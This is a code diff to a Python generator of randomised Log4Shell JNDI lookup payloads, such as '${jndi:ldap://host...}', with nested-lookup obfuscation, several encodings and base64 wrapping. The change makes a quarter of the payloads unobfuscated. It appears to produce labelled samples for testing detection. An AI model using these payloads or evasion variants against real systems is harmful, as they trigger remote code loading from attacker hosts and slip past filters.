@@ -20,6 +20,7 @@ from typing import Final
 from urllib.parse import quote
 
 PROTOCOLS: Final = ("ldap", "ldaps", "rmi", "dns", "iiop", "http", "corba", "nis", "nds")
+PLAIN_SHARE: Final = 0.25  # payloads whose words are not obfuscated (still encoded)
 ENCODINGS: Final = ("none", "url", "url2", "unicode", "hex", "html", "mixed")
 USER_AGENTS: Final = (
     "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0",
@@ -79,8 +80,8 @@ def _letter(rng: random.Random, char: str, depth: int) -> str:
             return "${" + rng.choice(("", "x", "abc")) + ":-" + _letter(rng, char, depth + 1) + "}"
 
 
-def _word(rng: random.Random, word: str) -> str:
-    return "".join(_letter(rng, char, 0) for char in word)
+def _word(rng: random.Random, word: str, plain: bool) -> str:
+    return word if plain else "".join(_letter(rng, char, 0) for char in word)
 
 
 def _host(rng: random.Random) -> str:
@@ -101,10 +102,12 @@ def payload(rng: random.Random) -> tuple[str, str]:
     path = "/" + "".join(
         rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(rng.randrange(0, 10))
     )
-    text = "${" + _word(rng, "jndi") + ":" + _word(rng, protocol) + f"://{host}{port}{path}" + "}"
+    plain = rng.random() < PLAIN_SHARE
+    jndi, scheme = _word(rng, "jndi", plain), _word(rng, protocol, plain)
+    text = "${" + jndi + ":" + scheme + f"://{host}{port}{path}" + "}"
     if rng.random() < 0.05:
-        plain = f"${{jndi:{protocol}://{host}{port}{path}}}"
-        text = "${base64:" + base64.b64encode(plain.encode()).decode() + "}"
+        hidden = f"${{jndi:{protocol}://{host}{port}{path}}}"
+        text = "${base64:" + base64.b64encode(hidden.encode()).decode() + "}"
     return text, host
 
 
